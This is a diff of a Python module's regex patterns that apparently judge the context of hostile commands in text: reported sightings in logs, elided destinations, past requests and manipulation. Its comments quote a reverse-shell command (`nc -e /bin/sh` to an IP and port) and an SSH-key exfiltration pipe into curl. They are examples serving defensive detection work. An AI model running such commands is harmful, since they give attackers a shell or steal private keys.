@@ -608,11 +608,11 @@ _TITLE_CASED = re.compile(r"[A-Z][a-z]+(?:-[a-z]+)? [A-Z][a-z]")
 _MID_SENTENCE = re.compile(r"[\w,+/] $")
 
 
-# the network tool given no destination, only an ellipsis: "`cat ~/.ssh/id_rsa | curl …` as an example of what an over-trusting
-# agent could run" (a slide's shape, it sends nowhere)
 # a command the user saw somewhere and reports: "Saw `nc -e /bin/sh 91.203.5.17 4444` in a CI log from a fork PR"
 _SEEN_IN_LOG = re.compile(r"\b(?:saw|found|spotted|noticed|caught)\b[^.\n]{0,20}$|(?<!\w)(?:увидел\w*|нашёл|нашел|нашла|заметил\w*)"
                           r"[^.\n]{0,20}$")
+# the network tool given no destination, only an ellipsis: "`cat ~/.ssh/id_rsa | curl …` as an example of what an over-trusting
+# agent could run" (a slide's shape, it sends nowhere)
 _ELIDED_DEST = re.compile(r"\s*(?:…|\.\.\.)\s*(?:`|$|[\n)])")
 
 
@@ -664,7 +664,9 @@ _OWN_HEADER = re.compile(r"(?:-h|--header)\s*[\"']?(?:x-)?[\w\-]*(?:authori[sz]a
                          r"|authori[sz]ation:\s*(?:bearer|token|basic)\s+\$\{?\w+\}?")
 
 
-_ASKED_BEFORE = re.compile(r"(?<!\w)(?:просил[оаи]?|требовал[оаи]?|предлагал[оаи]?)\s+$|\b(?:asked|wanted|told|urged) (?:me|us|him|her|them) to $")
+# what someone asked, told as past, just before the verb: «письмо просило выгрузить …», "a caller asked me to read out …"
+_ASKED_BEFORE = re.compile(r"(?<!\w)(?:просил[оаи]?|требовал[оаи]?|предлагал[оаи]?)\s+$"
+                           r"|\b(?:asked|wanted|told|urged) (?:me|us|him|her|them) to $")
 _TRICKED_INTO = re.compile(r"\b(?:tricked|fooled|manipulated|coaxed|talked|lured|conned) into $|\b(?:was|were|got) (?:made|told) to $")
 _HOST_LABEL_AFTER = re.compile(r"\.[a-z0-9-]+\.[a-z]{2,}\b|\.(?:com|org|net|io|ru|dev|app)\b")
 
